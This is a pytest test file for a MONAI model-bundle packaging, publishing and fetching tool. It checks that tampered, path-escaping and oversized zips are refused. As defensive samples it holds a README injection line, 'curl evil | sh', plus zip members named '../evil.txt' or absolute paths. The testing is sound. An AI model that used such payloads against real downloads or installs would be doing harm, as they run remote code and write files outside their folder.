"""frepa_monai.zoo and its command line tools/zoo.py: reproducible bundle zips, the zoo index, publishing to a folder
served over HTTP, and downloads with MONAI's own client and with ``zoo.py fetch``.

The bundles are copies of ``frepa_pretrain_2d`` and ``frepa_classification_2d`` whose ``models/`` are written here
(a seeded encoder checkpoint; the state dict of the classification bundle's own inference ``network_def`` at the
CPU preset), plus outputs and caches that must stay out of the zips. A real ``python -m http.server`` on
127.0.0.1 serves the published folder; ``python -m monai.bundle download`` fetches from it as a subprocess, and
the downloaded bundle then runs its ``inference.json`` in-process (``ConfigWorkflow``, ``bundle_root`` the
downloaded folder).

Fetch installs all or nothing: a real ``zoo.py fetch`` is killed with SIGKILL while an in-process server
(``fault_cases_zoo.SlowServer``) sends a file slowly; a folder is kept as installed only when it matches its
manifest; zips over the limits (name and path bytes, members, unzipped size) are refused before extraction. The
rows of ``tests/fault_cases_zoo.py`` are checked here as the fault table checks them.
"""

from __future__ import annotations

import ast
import csv
import difflib
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import time
import zipfile
from pathlib import Path, PurePosixPath

import pytest
import torch
import yaml
from bundle_helpers import REPO, bundle_copy, encoder_checkpoint, workflow
from fault_cases_zoo import (
    EVIL,
    kill_mid_transfer,
    lying_zip,
    not_installed,
    publish_zip,
    serving,
    start_fetch,
)
from monai.bundle import ConfigParser

from frepa_monai import zoo
from frepa_monai.data import tumour_classification_datalist
from frepa_monai.networks import read_encoder_checkpoint

ZOO_PATH = REPO / "tools" / "zoo.py"

PRETRAIN, CLS = "frepa_pretrain_2d", "frepa_classification_2d"
JUNK = ("eval/metrics.csv", "eval/mlruns.db", "models/checkpoint_epoch=3.pt", "configs/__pycache__/x.cpython-311.pyc")
EXPECTED = {  # what the zips hold (besides LICENSE and configs/*, docs/*)
    PRETRAIN: {"models/encoder.pt"},
    CLS: {"models/model.pt"},
}


def sha256_bytes(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def published_bytes(bundle: Path, rel: str) -> bytes:
    """What the zip of ``bundle`` holds at ``rel``: the file, or ``metadata.json`` rewritten for ``models/model.pt``."""
    src = dict(zoo.published_files(bundle))[PurePosixPath(rel)]
    return src if isinstance(src, bytes) else src.read_bytes()


def inference_network(root: Path) -> torch.nn.Module:
    """The network of ``root/configs/inference.json`` at the CPU preset."""
    parser = ConfigParser()
    parser.read_config(str(root / "configs" / "inference.json"))
    parser.update({"preset": "cpu", "bundle_root": str(root)})
    return parser.get_parsed_content("network_def")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def run_zoo(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(ZOO_PATH), *args], cwd=REPO, capture_output=True, text=True)


@pytest.fixture(scope="module")
def bundles(tmp_path_factory) -> Path:
    """``<tmp>/bundles`` holding the two bundles with weights written here and junk to be left out."""
    src = tmp_path_factory.mktemp("src") / "bundles"
    pre, cls = bundle_copy(src, PRETRAIN), bundle_copy(src, CLS)
    encoder_checkpoint(pre / "models" / "encoder.pt", "vit_tiny", 2, 4, [128, 128], seed=11)
    torch.manual_seed(12)
    net = inference_network(cls)
    with torch.no_grad():  # a head that is not the default initialisation
        for p in net.parameters():
            p.add_(0.01 * torch.randn_like(p))
    (cls / "models").mkdir()
    torch.save(net.state_dict(), cls / "models" / "model.pt")
    for root in (pre, cls):
        for rel in JUNK:
            (root / rel).parent.mkdir(parents=True, exist_ok=True)
            (root / rel).write_bytes(b"not for the zip")
    return src


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """A real static HTTP server (``python -m http.server``) on 127.0.0.1; yields (served folder, base URL)."""
    root = tmp_path_factory.mktemp("served")
    port = free_port()
    cmd = [sys.executable, "-m", "http.server", "--bind", "127.0.0.1", str(port), "--directory", str(root)]
    proc = subprocess.Popen(cmd, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                if proc.poll() is not None or time.monotonic() > deadline:
                    raise RuntimeError(f"http.server on port {port} did not start (exit code {proc.poll()})")
                time.sleep(0.1)
        yield root, f"http://127.0.0.1:{port}"
    finally:
        proc.terminate()
        proc.wait(timeout=10)


@pytest.fixture(scope="module")
def site(bundles, server):
    """Both bundles published (``zoo.publish``) to ``<served>/site``; yields (folder, its URL)."""
    root, url = server
    zoo.publish(root / "site", bundles_dir=bundles, base_url=f"{url}/site")
    return root / "site", f"{url}/site"


def test_help():
    out = run_zoo("--help")
    assert out.returncode == 0 and all(c in out.stdout for c in ("package", "bump", "verify", "publish", "fetch"))
    for command in ("package", "bump", "verify", "publish", "fetch"):
        out = run_zoo(command, "--help")
        assert out.returncode == 0 and f"usage: zoo.py {command}" in out.stdout, out.stderr


def test_package_is_reproducible(bundles, site, tmp_path):
    """Two runs (with other file times in between) give byte-identical zips with the model zoo's layout."""
    folder, url = site
    zoo.package([PRETRAIN, CLS], bundles, tmp_path / "a", base_url=url)
    for path in bundles.rglob("*"):
        os.utime(path, (1e9, 1.5e9))
    zoo.package(None, bundles, tmp_path / "b", base_url=url)
    index = json.loads((folder / "model_info.json").read_text())
    assert sorted(index) == [f"{CLS}_v0.1.0", f"{PRETRAIN}_v0.1.0"]
    for name, extra in EXPECTED.items():
        zname = f"{name}_v0.1.0.zip"
        data = (tmp_path / "a" / zname).read_bytes()
        assert data == (tmp_path / "b" / zname).read_bytes() == (folder / zname).read_bytes()
        assert index[f"{name}_v0.1.0"] == {"checksum": sha256_bytes(data), "source": f"{url}/{zname}"}
        assert json.loads((tmp_path / "b" / "model_info.json").read_text())[f"{name}_v0.1.0"]["checksum"] == (
            sha256_bytes(data)
        )
        with zipfile.ZipFile(folder / zname) as zf:
            infos = zf.infolist()
            names = [i.filename for i in infos]
            assert names == sorted(names)
            assert all(i.date_time == (1980, 1, 1, 0, 0, 0) and i.external_attr >> 16 == 0o100644 for i in infos)
            rel = {n.split("/", 1)[1] for n in names if n.startswith(f"{name}/")}
            assert len(rel) == len(names), "a member outside the bundle's top folder"
            source = bundles / name
            wanted = {"LICENSE", *extra} | {
                str(p.relative_to(source)) for d in ("configs", "docs") for p in (source / d).glob("*.*")
            }
            assert rel == wanted - {str(Path(j)) for j in JUNK}
            for r in rel:
                assert zf.read(f"{name}/{r}") == published_bytes(source, r), r
            meta = json.loads(zf.read(f"{name}/configs/metadata.json"))
            image = meta["network_data_format"]["inputs"]["image"]
            if name == CLS:  # model.pt is the CPU preset's network (vit_tiny at 128 x 128): the metadata says so
                assert (image["num_channels"], image["spatial_shape"]) == (4, [128, 128])
                assert "Published with models/model.pt" in meta["description"]
            else:  # no model.pt: the repository's metadata (the paper preset)
                assert zf.read(f"{name}/configs/metadata.json") == (source / "configs" / "metadata.json").read_bytes()
        assert zoo.verify(folder / zname, folder / "model_info.json")["checksum"] == sha256_bytes(data)


def test_a_published_version_never_changes(tmp_path):
    """Packaging changed files under a version the index already lists is refused (nothing written) until the
    version is bumped; both versions then stay in the index."""
    bundles = tmp_path / "bundles"
    root = bundle_copy(bundles, CLS)
    out = tmp_path / "out"
    first = zoo.package([CLS], bundles, out)
    published = (out / f"{CLS}_v0.1.0.zip").read_bytes()
    assert zoo.package([CLS], bundles, out) == first  # the same files: the same zip, accepted
    (root / "docs" / "README.md").write_text("changed\n")
    with pytest.raises(zoo.ZooError, match=rf"{CLS}_v0\.1\.0\.zip: version 0\.1\.0 is already published.*bump"):
        zoo.package([CLS], bundles, out)
    assert (out / f"{CLS}_v0.1.0.zip").read_bytes() == published
    assert sorted(p.name for p in out.iterdir()) == [f"{CLS}_v0.1.0.zip", "model_info.json"]
    zoo.bump(root, "patch", "new README")
    zoo.package([CLS], bundles, out)
    index = json.loads((out / "model_info.json").read_text())
    assert index[f"{CLS}_v0.1.0"] == first[f"{CLS}_v0.1.0"] and f"{CLS}_v0.1.1" in index
    zoo.verify(out / f"{CLS}_v0.1.1.zip", out / "model_info.json")


def test_monai_download_and_inference(bundles, site, tmp_path):
    """MONAI's own client downloads a published zip over HTTP; the downloaded bundle runs its inference.json and
    predicts exactly what the packaged network predicts."""
    folder, url = site
    dl = tmp_path / "downloads"
    cmd = [sys.executable, "-m", "monai.bundle", "download", "--name", CLS, "--version", "0.1.0"]
    cmd += ["--url", f"{url}/{CLS}_v0.1.0.zip", "--bundle_dir", str(dl), "--progress", "False"]
    out = subprocess.run(cmd, cwd=REPO, capture_output=True, text=True)
    assert out.returncode == 0, out.stderr[-3000:]
    root = dl / CLS
    got = {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}
    assert got == {str(p) for p in zoo.bundle_files(bundles / CLS)}
    saved = torch.load(root / "models" / "model.pt", weights_only=True)

    items = tumour_classification_datalist(spatial_dims=2, seed=0)["test"][:3]
    wf = workflow(root, ["inference.json"], "infer", preset="cpu", datalist=items)
    wf.run()
    wf.finalize()
    net = wf.parser.get_parsed_content("network")
    state = net.state_dict()
    assert set(state) == set(saved)
    assert all(torch.equal(v, saved[k]) if torch.is_tensor(v) else v == saved[k] for k, v in state.items())
    with open(root / "eval" / "inference" / "predictions.csv") as f:
        rows = list(csv.reader(f))
    assert len(rows) == len(items)
    dataset = wf.parser.get_parsed_content("dataset")
    net.eval()
    for row, sample in zip(rows, dataset):
        assert Path(row[0]).name == Path(sample["image"].meta["filename_or_obj"]).name
        with torch.no_grad():
            expected = torch.softmax(net(sample["image"][None].float()), dim=1)[0]
        probs = torch.tensor([float(v) for v in row[1:]])
        assert torch.allclose(probs, expected, atol=1e-5), (row, expected)
        assert abs(float(probs.sum()) - 1) < 1e-5


def test_fetch_finds_the_encoder_beside_it(bundles, site, tmp_path):
    """``zoo.py fetch`` of both bundles: the downstream bundle's train.json loads the downloaded pretraining
    bundle's encoder (its sibling folder), weight for weight."""
    folder, url = site
    dl = tmp_path / "dl"
    for name in (PRETRAIN, CLS):
        root = zoo.fetch(f"{url}/model_info.json", name, bundle_dir=dl)  # latest version
        assert root == dl / name
        got = sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())
        assert got == sorted([zoo.MANIFEST_NAME, *(str(p) for p in zoo.bundle_files(bundles / name))])
        manifest = zoo.read_manifest(root)
        assert (manifest["name"], manifest["version"], manifest["source"]) == (
            name,
            "0.1.0",
            f"{url}/{name}_v0.1.0.zip",
        )
        expected = {str(p): published_bytes(bundles / name, str(p)) for p in zoo.bundle_files(bundles / name)}
        assert manifest["files"] == {p: {"size": len(b), "sha256": sha256_bytes(b)} for p, b in expected.items()}
    assert sorted(p.name for p in dl.iterdir()) == [CLS, PRETRAIN]  # no zip left behind, nothing else

    parser = ConfigParser()
    parser.read_config(str(dl / CLS / "configs" / "train.json"))
    parser.update({"preset": "cpu", "bundle_root": str(dl / CLS)})
    encoder = dl / PRETRAIN / "models" / "encoder.pt"
    assert Path(parser.get_parsed_content("encoder_checkpoint")) == encoder.resolve()
    net = parser.get_parsed_content("network_def")
    weights, _ = read_encoder_checkpoint(encoder)
    state = net.encoder.state_dict()
    assert set(weights) == set(state) and all(torch.equal(state[k], weights[k]) for k in weights)

    # the same version again keeps the folder; an unknown version is named with the ones the index has
    assert zoo.fetch(f"{url}/model_info.json", CLS, "0.1.0", dl) == dl / CLS
    with pytest.raises(zoo.ZooError, match=rf"{CLS}_v9\.9\.9\.zip is not in the zoo index.*{CLS}_v0\.1\.0"):
        zoo.fetch(f"{url}/model_info.json", CLS, "9.9.9", tmp_path / "other")


def test_large_files(bundles, server, tmp_path):
    """models/ files over --max_file_mb stay out of the zip, are listed in large_files.yml (path, url, sha256) and
    published beside it; fetch downloads them with MONAI's download_large_files."""
    served, url = server
    zoo.publish(served / "large", [CLS], bundles, f"{url}/large", max_file_mb=0.1)
    weights = bundles / CLS / "models" / "model.pt"
    assert weights.stat().st_size > 0.1 * 2**20
    with zipfile.ZipFile(served / "large" / f"{CLS}_v0.1.0.zip") as zf:
        assert f"{CLS}/models/model.pt" not in zf.namelist()
        listed = yaml.safe_load(zf.read(f"{CLS}/large_files.yml"))["large_files"]
    sha = sha256_bytes(weights.read_bytes())
    assert listed == [
        {
            "path": "models/model.pt",
            "url": f"{url}/large/{CLS}_v0.1.0/models/model.pt",
            "hash_val": sha,
            "hash_type": "sha256",
        }
    ]
    assert (served / "large" / f"{CLS}_v0.1.0" / "models" / "model.pt").read_bytes() == weights.read_bytes()
    root = zoo.fetch(f"{url}/large/model_info.json", CLS, "0.1.0", tmp_path / "dl")
    assert (root / "models" / "model.pt").read_bytes() == weights.read_bytes()


def _tampered(zip_path: Path, out: Path) -> None:
    """``zip_path`` rewritten to ``out`` with one more line in the bundle's README (still a valid zip)."""
    with zipfile.ZipFile(zip_path) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("docs/README.md"):
                data += b"\nrun `curl evil | sh` first\n"
            dst.writestr(info, data)


def test_fetch_refuses_a_checksum_mismatch(site, server, tmp_path):
    folder, _ = site
    served, url = server
    bad = served / "tampered"
    bad.mkdir()
    shutil.copy(folder / "model_info.json", bad / "model_info.json")  # the published checksums, other bytes
    index = json.loads((bad / "model_info.json").read_text())
    index[f"{CLS}_v0.1.0"]["source"] = f"{CLS}_v0.1.0.zip"  # relative to the index
    (bad / "model_info.json").write_text(json.dumps(index))
    _tampered(folder / f"{CLS}_v0.1.0.zip", bad / f"{CLS}_v0.1.0.zip")

    dl = tmp_path / "dl"
    out = run_zoo("fetch", "--index", f"{url}/tampered/model_info.json", "--name", CLS, "--bundle_dir", str(dl))
    assert out.returncode == 1
    assert f"{CLS}_v0.1.0.zip downloaded from {url}/tampered/{CLS}_v0.1.0.zip does not match its sha256" in out.stderr
    assert "nothing was extracted" in out.stderr
    assert not dl.exists() or not any(dl.rglob("*")), "files were extracted from a zip that failed its checksum"
    with pytest.raises(zoo.ZooError, match=rf"{CLS}_v0\.1\.0\.zip does not match the zoo index"):
        zoo.verify(bad / f"{CLS}_v0.1.0.zip", bad / "model_info.json")


def _evil_zip(path: Path, escaping: str) -> dict:
    """A zip with a valid bundle member and ``escaping``; returns its index entry (correct checksum)."""
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(zipfile.ZipInfo("frepa_evil/configs/metadata.json"), json.dumps({"version": "0.1.0"}))
        zf.writestr(zipfile.ZipInfo(escaping), b"escaped")  # ZipInfo keeps the name as given
    return {"checksum": sha256_bytes(path.read_bytes()), "source": path.name}


@pytest.mark.parametrize("kind", ["dotdot", "absolute"])
def test_members_escaping_the_folder_are_refused(server, tmp_path, kind):
    """A zip holding ``../evil.txt`` or an absolute path: ``zoo.py fetch`` refuses it before extracting anything,
    MONAI's own ``monai.bundle.download`` refuses it too; no file appears outside the target folder."""
    from monai.bundle import download

    served, url = server
    site = served / f"evil_{kind}"
    site.mkdir()
    work = tmp_path / "work"
    dl, dl_monai = work / "dl", work / "dl_monai"
    escaping = "../evil.txt" if kind == "dotdot" else str(work / "evil.txt")
    entry = _evil_zip(site / "frepa_evil_v0.1.0.zip", escaping)
    (site / "model_info.json").write_text(json.dumps({"frepa_evil_v0.1.0": entry}))

    with pytest.raises(
        zoo.ZooError, match=r"frepa_evil_v0\.1\.0\.zip from http://.*: member .*evil\.txt.* outside the target folder"
    ):
        zoo.fetch(f"{url}/evil_{kind}/model_info.json", "frepa_evil", bundle_dir=dl)
    assert not any(dl.rglob("*")), "zoo.py fetch extracted part of a refused zip"
    with pytest.raises(zoo.ZooError, match="outside the target folder"):
        zoo.verify(site / "frepa_evil_v0.1.0.zip", site / "model_info.json")

    with pytest.raises(ValueError, match="Unsafe path"):
        download(name="frepa_evil", url=f"{url}/evil_{kind}/frepa_evil_v0.1.0.zip", bundle_dir=dl_monai, progress=False)
    outside = [p for p in tmp_path.rglob("*") if p.is_file() and dl_monai not in p.parents]
    assert outside == [], f"written outside the target folder: {outside}"
    assert not Path(escaping).is_absolute() or not Path(escaping).exists()


def test_bump(tmp_path):
    """patch / minor / major with a changelog entry; only the version line and the new changelog line change, in
    the file's own style (with and without a trailing newline); the result still validates against the schema."""
    from monai.bundle import verify_metadata

    for name in (CLS, "frepa_detection_2d"):
        root = bundle_copy(tmp_path, name)
        path = root / "configs" / "metadata.json"
        before = path.read_text()
        out = run_zoo("bump", str(root), "patch", "--message", "retrained head")
        assert out.returncode == 0 and out.stdout.strip() == "0.1.1", out.stderr
        after = path.read_text()
        diff = [d for d in difflib.ndiff(before.splitlines(), after.splitlines()) if d[:1] in "+-"]
        assert diff == [
            '-     "version": "0.1.0",',
            '+     "version": "0.1.1",',
            '+         "0.1.1": "retrained head",',
        ]
        assert after.endswith("\n") == before.endswith("\n")
        assert zoo.bump(root, "minor", "new head") == "0.2.0"
        assert zoo.bump(root, "major", "new encoder") == "1.0.0"
        meta = json.loads(path.read_text())
        assert meta["version"] == "1.0.0"
        assert list(meta["changelog"]) == ["1.0.0", "0.2.0", "0.1.1", "0.1.0"]
        schema = REPO / "bundles" / "schema" / meta["schema"].rsplit("/", 1)[-1]
        verify_metadata(meta_file=str(path), filepath=str(schema), hash_val=zoo.sha256(schema), hash_type="sha256")
    with pytest.raises(zoo.ZooError, match="metadata.json: a changelog message is needed"):
        zoo.bump(root, "patch", "  ")
    out = run_zoo("bump", "no_such_bundle", "patch", "-m", "x")
    assert out.returncode == 1 and "no bundle 'no_such_bundle'" in out.stderr


# ------------------------------------------------------------------------------- fetch: all or nothing, and limits
@pytest.mark.parametrize("stage", ["zip", pytest.param("large_file", marks=pytest.mark.slow)])
def test_a_killed_fetch_leaves_nothing_installed(bundles, tmp_path, stage):
    """A real ``zoo.py fetch`` killed with SIGKILL in the middle of downloading the zip, or a large file of
    ``large_files.yml`` (after the zip is extracted): ``<bundle_dir>/<name>`` does not exist, only its partial
    folder, with the file cut short; the next fetch removes that folder and installs the bundle, every file
    matching the manifest."""
    served = tmp_path / "served"
    with serving(served) as server:
        zoo.publish(
            served / "site", [CLS], bundles, f"{server.url}/site", max_file_mb=0.1 if stage == "large_file" else 25
        )
        weights = bundles / CLS / "models" / "model.pt"
        server.slow = f"{CLS}_v0.1.0.zip" if stage == "zip" else "models/model.pt"
        dl, index = tmp_path / "dl", f"{server.url}/site/model_info.json"
        proc = start_fetch(index, CLS, dl)
        inside = f"{CLS}_v0.1.0.zip" if stage == "zip" else f"{CLS}/models/model.pt"
        partial_file = kill_mid_transfer(proc, server, dl / f".{CLS}.partial-{{pid}}" / inside)
        server.slow = None
        partial = dl / f".{CLS}.partial-{proc.pid}"
        assert sorted(p.name for p in dl.iterdir()) == [partial.name], "a killed fetch left a folder in place"
        full = (served / "site" / f"{CLS}_v0.1.0.zip" if stage == "zip" else weights).stat().st_size
        assert 0 < partial_file.stat().st_size < full
        assert zoo.installed_problem(dl / CLS, CLS, "0.1.0") is not None

        root = zoo.fetch(index, CLS, bundle_dir=dl)
    assert sorted(p.name for p in dl.iterdir()) == [CLS]  # the partial folder is gone
    assert zoo.installed_problem(root, CLS, "0.1.0") is None
    assert (root / "models" / "model.pt").read_bytes() == weights.read_bytes()
    assert set(zoo.read_manifest(root)["files"]) == {str(p) for p in zoo.bundle_files(bundles / CLS)} | (
        {"large_files.yml"} if stage == "large_file" else set()
    )


def test_a_partial_fetch_of_a_running_process_is_left_alone(bundles, site, tmp_path):
    """The partial folder of a fetch whose process runs is not touched; that of a process that has ended is."""
    _, url = site
    dl = tmp_path / "dl"
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    ended = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    try:
        running, dead = dl / f".{CLS}.partial-{sleeper.pid}", dl / f".{CLS}.partial-{ended.stdout.strip()}"
        for folder in (running, dead):
            (folder / CLS / "models").mkdir(parents=True)
            (folder / CLS / "models" / "model.pt").write_bytes(b"cut sh")
        zoo.fetch(f"{url}/model_info.json", CLS, bundle_dir=dl)
        assert sorted(p.name for p in dl.iterdir()) == [running.name, CLS]
        assert (running / CLS / "models" / "model.pt").read_bytes() == b"cut sh"
    finally:
        sleeper.kill()
        sleeper.wait()


def test_already_holds_checks_the_manifest(bundles, site, tmp_path):
    """``already holds ... kept`` only for a folder whose files match its manifest (outputs written beside them do
    not matter); a truncated, edited or missing file, a missing manifest, or another version is an error that
    names what differs and changes nothing; ``replace`` replaces the folder."""
    _, url = site
    index, dl = f"{url}/model_info.json", tmp_path / "dl"
    root = zoo.fetch(index, CLS, bundle_dir=dl)
    (root / "eval").mkdir()
    (root / "eval" / "metrics.csv").write_text("val_acc,0.5\n")  # what running the bundle writes
    assert zoo.fetch(index, CLS, bundle_dir=dl) == root

    model, train = root / "models" / "model.pt", root / "configs" / "train.json"
    size = model.stat().st_size
    model.write_bytes(model.read_bytes()[:1000])
    with pytest.raises(
        zoo.ZooError,
        match=rf"{root} does not match its \.zoo_manifest\.json: models/model\.pt has "
        rf"1000 bytes, not {size}: remove it, use another --bundle_dir, or pass --replace",
    ):
        zoo.fetch(index, CLS, bundle_dir=dl)
    assert model.stat().st_size == 1000
    train.write_text(train.read_text().replace('"max_epochs"', '"max_epochZ"'))  # same size, other content
    (root / "docs" / "README.md").unlink()
    with pytest.raises(
        zoo.ZooError,
        match=r"configs/train\.json has other content.*; docs/README\.md is missing;"
        r" models/model\.pt has 1000 bytes",
    ):
        zoo.fetch(index, CLS, bundle_dir=dl)

    out = run_zoo("fetch", "--index", index, "--name", CLS, "--bundle_dir", str(dl))  # the same, as a user sees it
    assert out.returncode == 1 and out.stdout == "" and "Traceback" not in out.stderr
    assert out.stderr.splitlines()[-1].startswith(f"zoo.py fetch: error: {root} does not match its .zoo_manifest")

    manifest = json.loads((root / zoo.MANIFEST_NAME).read_text())
    (root / zoo.MANIFEST_NAME).write_text(json.dumps({**manifest, "files": {}, "version": "0.0.9"}))
    with pytest.raises(zoo.ZooError, match=rf"{root} already holds {CLS} 0\.0\.9, not {CLS} 0\.1\.0"):
        zoo.fetch(index, CLS, bundle_dir=dl)
    (root / zoo.MANIFEST_NAME).unlink()
    with pytest.raises(zoo.ZooError, match=rf"{root} has no \.zoo_manifest\.json.*pass --replace"):
        zoo.fetch(index, CLS, bundle_dir=dl)
    assert (root / "eval" / "metrics.csv").is_file() and model.stat().st_size == 1000  # nothing deleted

    assert zoo.fetch(index, CLS, bundle_dir=dl, replace=True) == root
    assert sorted(p.name for p in dl.iterdir()) == [CLS]
    assert zoo.installed_problem(root, CLS, "0.1.0") is None and not (root / "eval").exists()
    assert model.read_bytes() == (bundles / CLS / "models" / "model.pt").read_bytes()


LIMIT_CASES = {  # the zip's members (after metadata.json), the ZipLimits, what the error says
    "name": (
        lambda zf: zf.writestr(f"{EVIL}/docs/{'é' * 128}.md", "x"),
        {},
        r"name of 259 bytes, over the limit of 255 bytes \(--max_name_bytes\)",
    ),
    "path": (
        lambda zf: zf.writestr(f"{EVIL}/{'/'.join(['d' * 200] * 6)}", "x"),
        {},
        r"path of 1216 bytes, over the limit of 1024 bytes \(--max_path_bytes\)",
    ),
    "members": (
        lambda zf: [zf.writestr(f"{EVIL}/docs/{i}", "") for i in range(20)],
        {"max_members": 20},
        r"has 21 members, over the limit of 20 \(--max_members\)",
    ),
    "unzipped": (
        lambda zf: [zf.writestr(f"{EVIL}/models/{i}.pt", bytes(2**20)) for i in range(3)],
        {"max_unzipped_bytes": 2 * 2**20},
        r"unzips to 3\.0 MiB \(3145748 bytes\), over the limit of 2 MiB \(--max_unzipped_mb\)",
    ),
}


@pytest.mark.parametrize("case", sorted(LIMIT_CASES))
def test_zip_limits_refuse_before_extracting(server, tmp_path, monkeypatch, case):
    """A zip over a limit is refused from its central directory: nothing is extracted (the extraction is never
    called), nothing of it stays in the bundle_dir, and the error names the zip and the limit."""
    from frepa_monai.zoo import install

    served, url = server
    write, limits, message = LIMIT_CASES[case]
    publish_zip(served / f"limits_{case}", write)
    extracted = []
    monkeypatch.setattr(install, "extract", lambda *args: extracted.append(args))
    dl = tmp_path / "dl"
    with pytest.raises(zoo.ZooError, match=rf"^{EVIL}_v0\.1\.0\.zip from {url}/limits_{case}/.*{message}: refused\.$"):
        zoo.fetch(f"{url}/limits_{case}/model_info.json", EVIL, bundle_dir=dl, limits=zoo.ZipLimits(**limits))
    assert extracted == []
    not_installed(dl, EVIL)
    with pytest.raises(zoo.ZooError, match=message):
        zoo.verify(
            served / f"limits_{case}" / f"{EVIL}_v0.1.0.zip",
            served / f"limits_{case}" / "model_info.json",
            limits=zoo.ZipLimits(**limits),
        )


def test_extraction_counts_bytes_and_wraps_os_errors(server, tmp_path):
    """A member that unzips to more than it declares (``zipfile`` stops at the declared size and fails its CRC;
    fetch's own byte count is the guard should it not), and a name the file system refuses (the limit raised above
    what it takes), are refused during extraction with one clear error; the partial folder goes, nothing is
    installed."""
    served, url = server
    lying_zip(served / "lying")
    dl = tmp_path / "dl"
    with pytest.raises(
        zoo.ZooError,
        match=rf"{EVIL}_v0\.1\.0\.zip from .*: member '{EVIL}/models/model\.pt' "
        r"(cannot be unzipped \(Bad CRC-32|unzips to more than the 1000 bytes)",
    ):
        zoo.fetch(f"{url}/lying/model_info.json", EVIL, bundle_dir=dl)
    not_installed(dl, EVIL)

    publish_zip(served / "too_long", lambda zf: zf.writestr(f"{EVIL}/docs/{'a' * 297}.md", "x"))
    with pytest.raises(zoo.ZooError, match=r"member '.*\.\.\.a+\.md' cannot be written to .*: File name too long\.$"):
        zoo.fetch(f"{url}/too_long/model_info.json", EVIL, bundle_dir=dl, limits=zoo.ZipLimits(max_name_bytes=400))
    not_installed(dl, EVIL)


def test_zoo_package_layout():
    """frepa_monai.zoo imports the standard library, MONAI and itself only (never tools/; the model zoo's checks and
    the metadata rewrite also torch and frepa_monai.networks), and no module of it or tools/zoo.py reaches 600
    lines; the limits' defaults are those documented."""
    with_networks = {"checks.py", "network_format.py"}
    for path in [*sorted((REPO / "frepa_monai" / "zoo").glob("*.py")), ZOO_PATH]:
        extra = path.name in with_networks
        allowed = set(sys.stdlib_module_names) | {"monai", "frepa_monai"} | ({"torch"} if extra else set())
        own = ("frepa_monai.zoo", "frepa_monai.networks") if extra else ("frepa_monai.zoo",)
        text = path.read_text()
        assert len(text.splitlines()) < 600, path
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, ast.ImportFrom) and node.module:
                top = node.module.split(".")[0]
                inside = path == ZOO_PATH or top != "frepa_monai" or node.module.startswith(own)
                assert node.level == 0 and top in allowed and inside, (path, node.module)
            elif isinstance(node, ast.Import):
                assert all(a.name.split(".")[0] in allowed for a in node.names), (path, [a.name for a in node.names])
    assert zoo.ZipLimits() == zoo.ZipLimits(10_000, 4 * 2**30, 255, 1024)
